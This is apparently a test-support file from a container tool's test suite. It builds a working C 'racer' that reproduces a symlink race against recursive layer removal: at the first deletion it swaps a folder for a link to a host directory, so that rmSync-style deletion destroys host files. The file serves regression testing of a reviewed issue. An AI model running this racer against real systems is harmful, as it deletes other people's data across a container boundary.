// The attack on a layer's removal (issue #10, helper-198's review): a process holding a directory
// of a layer open swaps a folder in it for a symbolic link to a folder of this machine as soon as
// the removal starts deleting in it. A removal that looks paths up again as it goes (Node's rmSync)
// then deletes the files the link names. Built with gcc (docs/testing.md), run in a container or on
// this machine.
//
//   racer send NAME DIR           opens DIR and hands it over the abstract Unix socket @NAME
//   racer race SOURCE TARGET FILE takes a directory (@NAME: from `send`; else a path it opens), fills
//                                 its folder `a` with padding and FILE, prints "ready", and at the
//                                 first deletion in `a` swaps `a` for a link to TARGET, then prints
//                                 "swapped"; all through the descriptor, as a process in a container
//                                 that holds another container's root would
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { requireTool } from '../../support/sandbox.ts';

const SOURCE = String.raw`
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <unistd.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/inotify.h>
#include <sys/stat.h>
static socklen_t address(struct sockaddr_un *u, const char *name) {
  memset(u, 0, sizeof *u); u->sun_family = AF_UNIX; size_t n = strlen(name); memcpy(u->sun_path + 1, name, n);
  return offsetof(struct sockaddr_un, sun_path) + 1 + n;
}
static int received(const char *name) {
  struct sockaddr_un u; socklen_t n = address(&u, name);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(s, (void *)&u, n)) { perror("connect"); return -1; }
  char control[CMSG_SPACE(sizeof(int))]; char b; struct iovec io = { &b, 1 };
  struct msghdr m = { .msg_iov = &io, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
  if (recvmsg(s, &m, 0) <= 0 || !CMSG_FIRSTHDR(&m)) { perror("recvmsg"); return -1; }
  int d; memcpy(&d, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof d); return d;
}
int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc == 4 && !strcmp(argv[1], "send")) {
    int d = open(argv[3], O_RDONLY | O_DIRECTORY); if (d < 0) { perror("open"); return 1; }
    struct sockaddr_un u; socklen_t n = address(&u, argv[2]);
    int s = socket(AF_UNIX, SOCK_STREAM, 0); if (bind(s, (void *)&u, n) || listen(s, 1)) { perror("bind"); return 1; }
    printf("holding\n");
    int c = accept(s, 0, 0); char control[CMSG_SPACE(sizeof(int))]; char b = 'x'; struct iovec io = { &b, 1 };
    struct msghdr m = { .msg_iov = &io, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
    struct cmsghdr *h = CMSG_FIRSTHDR(&m); h->cmsg_level = SOL_SOCKET; h->cmsg_type = SCM_RIGHTS; h->cmsg_len = CMSG_LEN(sizeof(int)); memcpy(CMSG_DATA(h), &d, sizeof d);
    if (sendmsg(c, &m, 0) < 0) { perror("sendmsg"); return 1; }
    printf("sent\n"); return 0;
  }
  if (argc != 5 || strcmp(argv[1], "race")) { fprintf(stderr, "usage: racer send NAME DIR | racer race SOURCE TARGET FILE\n"); return 2; }
  int d = argv[2][0] == '@' ? received(argv[2] + 1) : open(argv[2], O_RDONLY | O_DIRECTORY);
  if (d < 0) { perror("open"); return 1; }
  if (mkdirat(d, "a", 0755) && errno != EEXIST) { perror("mkdir"); return 1; }
  int a = openat(d, "a", O_RDONLY | O_DIRECTORY);
  for (int i = 0; i < 5000; i++) {
    char name[32]; snprintf(name, sizeof name, "p%05d", i); close(openat(a, name, O_CREAT | O_WRONLY, 0644));
    if (i == 2500) close(openat(a, argv[4], O_CREAT | O_WRONLY, 0644));
  }
  char watched[64]; snprintf(watched, sizeof watched, "/proc/self/fd/%d/a", d);
  int in = inotify_init(); if (inotify_add_watch(in, watched, IN_DELETE) < 0) { perror("inotify"); return 1; }
  printf("ready\n");
  char events[4096]; if (read(in, events, sizeof events) <= 0) { perror("read"); return 1; }
  if (renameat(d, "a", d, "a.old")) perror("rename");
  if (symlinkat(argv[3], d, "a")) perror("symlink");
  printf("swapped\n"); return 0;
}
`;

/** Builds the racer in `dir` and returns its path. */
export function buildRacer(dir: string): string {
  requireTool('/usr/bin/gcc');
  writeFileSync(join(dir, 'racer.c'), SOURCE);
  execFileSync('gcc', ['-O2', '-o', join(dir, 'racer'), join(dir, 'racer.c')]);
  return join(dir, 'racer');
}
